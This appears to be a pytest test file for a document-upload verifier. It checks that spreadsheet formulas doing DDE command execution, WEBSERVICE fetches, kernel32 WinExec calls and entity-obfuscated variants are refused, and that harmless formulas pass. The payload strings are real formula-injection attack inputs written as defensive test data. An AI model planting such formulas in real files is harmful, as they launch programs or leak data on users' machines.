import pytest

from tests.verifier.inspection.files import LETTER, WORKBOOK, Put, packed, refused
from tests.verifier.inspection.test_office import formula, relation
from verifier.inspection import Kind, inspect


class TestInspectAFormula:
    @pytest.mark.parametrize(
        ("text", "code"),
        [
            ("cmd|'/c calc'!A1", "dde"),
            ("1+excel|topic!item", "dde"),
            ("'a b'!A1+cmd|'/c calc'!A1", "dde"),
            ('WEBSERVICE("http://elsewhere.example/"&amp;B1)', "formula"),
            ("_xlfn.WEBSERVICE(A1)", "formula"),
            (f"WEBSERVICE(A1){'+1' * 5_000}&amp;1", "formula"),
            ("&#87;EB<!-- -->SERVICE<![CDATA[(]]>A1)", "formula"),
            ('1+webservice ("http://a")', "formula"),
            ("_xlfn._xlws.IMAGE(A1)", "formula"),
            ('CALL("kernel32","WinExec","JCJ","calc",0)', "formula"),
            ('REGISTER("a","b")', "formula"),
            ('REGISTER.ID("a","b")', "formula"),
            ('IMPORTDATA("http://a")', "formula"),
            ('RTD("a",,"b")', "formula"),
            ("'a&quot;b'!A1&amp;WEBSERVICE(A1)&amp;'c&quot;d'!A1", "formula"),
            ("T[a&quot;b]&amp;WEBSERVICE(A1)&amp;T[c&quot;d]", "formula"),
            ("T['#a]&amp;WEBSERVICE(A1)&amp;T['!b]", "formula"),
        ],
    )
    @pytest.mark.parametrize("element", ["f", "formula1", "definedName"])
    def test_refuses_what_fetches_or_starts_a_program(self, put: Put, text: str, code: str, element: str) -> None:
        workbook = WORKBOOK | {"xl/worksheets/sheet1.xml": formula(text, element=element)}

        assert refused(put(packed(workbook)), "a.xlsx") == code

    @pytest.mark.parametrize(
        "text",
        [
            "SUM('Image (2)'!A1:B2,'it''s call(1)'!C1)",
            'IF(A1="WEBSERVICE(x)|y",1,2)',
            "SUM(Table1[Power|kW],Table1[[#This Row],[Call (h)]])",
            'HYPERLINK("https://elsewhere.example")',
            '"yes|no"',
            "RECALL(A1)+image+my.image(A1)",
            "IFERROR(VLOOKUP(A1,Sheet2!$A:$B,2,FALSE),&quot;&quot;)",
        ],
    )
    def test_takes_what_only_reckons(self, put: Put, text: str) -> None:
        assert inspect(put(packed(WORKBOOK | {"xl/worksheets/sheet1.xml": formula(text)})), "a.xlsx") is Kind.XLSX


class TestInspectADocumentInAnArchive:
    @pytest.mark.parametrize(
        ("more", "code"),
        [
            ({"word/_rels/settings.xml.RELS": relation("attachedTemplate", "//elsewhere/a.dotm")}, "links"),
            ({"word/embeddings/a.xlsx": packed(WORKBOOK | {"xl/a": formula("cmd|&apos;/c a&apos;!A1")})}, "dde"),
            ({"word/embeddings/a.xlsx": packed(WORKBOOK | {"a.Rels": relation("connections", "a")})}, "links"),
        ],
    )
    def test_refuses_it_as_by_itself(self, put: Put, more: dict[str, str | bytes], code: str) -> None:
        assert refused(put(packed({"folder/a.docx": packed(LETTER | more)})), "a.zip") == code
